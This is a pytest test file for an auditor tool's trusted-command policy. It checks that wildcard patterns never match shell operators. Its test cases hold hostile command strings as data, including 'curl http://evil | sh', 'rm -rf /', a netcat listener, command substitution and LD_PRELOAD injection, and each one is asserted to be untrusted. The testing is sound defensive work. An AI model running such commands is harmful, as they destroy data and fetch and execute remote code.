"""A trusted-command pattern matches only one simple command, word for word: its ``*`` never
stands for a shell operator (issue 13, part 2)."""

from __future__ import annotations

import pytest

from auditor.judge.policy import PolicyError
from auditor.judge.shellwords import argv_matches, shell_command_matches, split
from tests.conftest import findings, make_policy

STATUS = "systemctl status *"

# (pattern, command run by a shell, trusted?)
SHELL_CASES = [
    (STATUS, "systemctl status nginx", True),
    (STATUS, "systemctl status", True),
    (STATUS, "systemctl  status   'my unit'", True),
    (STATUS, "systemctl status x; curl http://evil | sh", False),
    (STATUS, "systemctl status x && rm -rf /", False),
    (STATUS, "systemctl status x || reboot", False),
    (STATUS, "systemctl status x & nc -l 4444", False),
    (STATUS, "systemctl status x | sh", False),
    (STATUS, "systemctl status $(curl evil)", False),
    (STATUS, "systemctl status `id`", False),
    (STATUS, 'systemctl status "$(id)"', False),
    (STATUS, "systemctl status ${IFS}x", False),
    (STATUS, "systemctl status $UNIT", False),
    (STATUS, "systemctl status x > /etc/passwd", False),
    (STATUS, "systemctl status x < /dev/zero", False),
    (STATUS, "systemctl status x\nrm -rf /", False),
    (STATUS, "systemctl status (x)", False),
    (STATUS, "LD_PRELOAD=/tmp/x.so systemctl status x", False),
    (STATUS, "systemctl status 'unterminated", False),
    (STATUS, "systemctl stop x", False),
    (STATUS, "systemctl status x # and a comment", False),
    # quoted operators are plain characters of a word
    (STATUS, "systemctl status 'x; rm -rf /'", True),
    (STATUS, "systemctl status \\;", True),
    # a glob in the command matches only the same literal text in the pattern
    ("ls -l /var/log/app.log", "ls -l /var/log/*.log", False),
    ("ls -l /var/log/*.log", "ls -l /var/log/*.log", True),
    ("journalctl -u *", "journalctl -u app", True),
    ("journalctl -u *", "journalctl -u", True),
    ("journalctl -u *", "journalctl --unit app", False),
    ("journalctl --since=*", "journalctl --since=today", True),
    ("journalctl --since=*", "journalctl --since=today --until=now", False),
    ("uptime", "uptime", True),
    ("uptime", "uptime -p", False),
    ("uptime", "uptime;id", False),
]


@pytest.mark.parametrize(("pattern", "command", "trusted"), SHELL_CASES)
def test_shell_commands(pattern: str, command: str, trusted: bool) -> None:
    assert shell_command_matches(pattern, command) is trusted


@pytest.mark.parametrize(("pattern", "command", "trusted"), SHELL_CASES)
def test_shell_commands_through_the_scanner(pattern: str, command: str, trusted: bool) -> None:
    policy = make_policy({"trusted_commands": [pattern]})
    code = f"import subprocess\nsubprocess.run({command!r}, shell=True)\n"
    [finding] = findings(code, policy=policy)
    assert finding.rule == "AUD201"
    if trusted:
        assert (finding.trusted_by, finding.action) == (f"command:{pattern}", "allow")
    else:
        assert finding.trusted_by is None
        assert (finding.risk, finding.action) == ("medium", "convert")


@pytest.mark.parametrize(
    ("pattern", "argv", "trusted"),
    [
        (STATUS, ["systemctl", "status", "nginx"], True),
        (STATUS, ["systemctl", "status", "x; curl evil | sh"], True),  # no shell: one word
        (STATUS, ["systemctl", "stop", "nginx"], False),
        (STATUS, ["systemctl"], False),
        ("git status", ["git", "status", "--porcelain"], False),
        ("git status *", ["git", "status", "--porcelain"], True),
        ("uptime", ["uptime"], True),
    ],
)
def test_argv_lists(pattern: str, argv: list[str], trusted: bool) -> None:
    assert argv_matches(pattern, argv) is trusted
    policy = make_policy({"trusted_commands": [pattern]})
    [finding] = findings(f"import subprocess\nsubprocess.run({argv!r})\n", policy=policy)
    assert (finding.trusted_by is not None) is trusted


def test_an_os_system_command_with_operators_is_never_trusted() -> None:
    policy = make_policy({"trusted_commands": ["journalctl -u *"]})
    [finding] = findings(
        'import os\nCMD = "journalctl -u app | mail root"\nos.system(CMD)\n', policy=policy
    )
    assert finding.trusted_by is None and finding.action == "convert"


@pytest.mark.parametrize(
    "pattern", ["ps aux | head", "systemctl status *; id", "echo $HOME", "A=1 cmd", "x 'y", ""]
)
def test_a_pattern_that_cannot_match_a_simple_command_is_a_policy_error(pattern: str) -> None:
    with pytest.raises(PolicyError, match="test policy: 'trusted_commands'") as info:
        make_policy({"trusted_commands": [pattern]})
    assert "\n" not in str(info.value)


@pytest.mark.parametrize(
    ("text", "words", "simple"),
    [
        ("a b  c", ("a", "b", "c"), True),
        ("a 'b c' \"d e\"", ("a", "b c", "d e"), True),
        ("a b\\ c", ("a", "b c"), True),
        ('a "x\\"y"', ("a", 'x"y'), True),
        ("cmd A=b", ("cmd", "A=b"), True),
        ("'A=b' cmd", ("A=b", "cmd"), True),
        ("A=b cmd", ("A=b", "cmd"), False),
        ('A="b c" cmd', ("A=b c", "cmd"), False),
        ("a;b", ("a", "b"), False),
        ("a&&b", ("a", "b"), False),
        ("a\\\nb", ("ab",), True),
    ],
)
def test_split(text: str, words: tuple[str, ...], simple: bool) -> None:
    got = split(text)
    assert got is not None
    assert got.words == words
    assert got.simple is simple


@pytest.mark.parametrize("text", ["a 'b", 'a "b', "a \\"])
def test_unsplittable(text: str) -> None:
    assert split(text) is None
